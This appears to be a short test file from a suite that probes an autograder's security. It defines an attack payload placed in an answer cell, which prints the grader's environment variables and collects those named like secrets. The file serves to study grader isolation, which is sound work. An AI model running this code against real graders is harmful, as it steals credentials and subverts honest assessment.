from ..attack import InCells

ATTACK = InCells(
    "Prints the environment variables of the grader.",
    {
        "number-answer": """
answer = 24
import os
print(dict(os.environ))
for name, value in os.environ.items():
    if "SECRET" in name or AIM["mark"][7:] in value and not value.startswith("/"):
        gained(name, value)
"""
    },
)
